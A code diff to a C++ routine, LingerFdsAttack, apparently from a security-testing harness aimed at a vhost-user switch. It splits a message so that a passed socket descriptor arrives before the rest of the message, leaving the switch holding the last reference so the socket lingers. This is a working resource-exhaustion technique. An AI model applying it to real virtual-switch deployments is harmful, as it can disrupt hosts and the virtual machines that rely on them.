@@ -1157,20 +1157,31 @@ absl::Status LingerFdsAttack(const AttackOptions& o, AttackReport& r) {
       if (past) break;
       continue;
     }
+    // The message goes in two parts: its first 4 bytes carry the fd; only once the
+    // switch holds it (in flight or received, but not yet acted on: the message is
+    // incomplete) do we close our copy, then send the rest.  So the switch's close,
+    // whenever it comes, is the last one, the one that lingers.
     absl::Status sent;
+    std::vector<uint8_t> message(sizeof(MessageHeader));
+    MessageHeader h{static_cast<uint32_t>(as_kick ? Request::kSetVringKick
+                                                  : Request::kGetFeatures),
+                    kVersion, as_kick ? 8u : 0u};
+    memcpy(message.data(), &h, sizeof h);
     if (as_kick) {
       sent = (*fe)->Send(Request::kSetOwner, nullptr, 0);
-      if (sent.ok()) sent = (*fe)->SendU64(Request::kSetVringKick, 0, {sock->get()});
-    } else {
-      sent = (*fe)->Send(Request::kGetFeatures, nullptr, 0, {sock->get()});
+      message.resize(message.size() + 8, 0);  // vring 0
     }
+    if (sent.ok()) sent = SendRaw(**fe, message.data(), 4, {sock->get()});
     if (!sent.ok()) {
       LingerSockets::Discard(*sock);  // It never left: ours is the last reference.
       Note(r, absl::StrCat("send: ", sent.message()));
       (*fe).reset();
       continue;
     }
-    sock->reset();  // The switch holds the socket now (in flight or received).
+    sock->reset();  // Not the last reference: the switch has one.
+    if (absl::Status s = SendRaw(**fe, message.data() + 4, message.size() - 4); !s.ok()) {
+      Note(r, absl::StrCat("send: ", s.message()));
+    }
     ++r.connections;
     last_was_error = !as_kick;
     HangUp(*fe, 20);
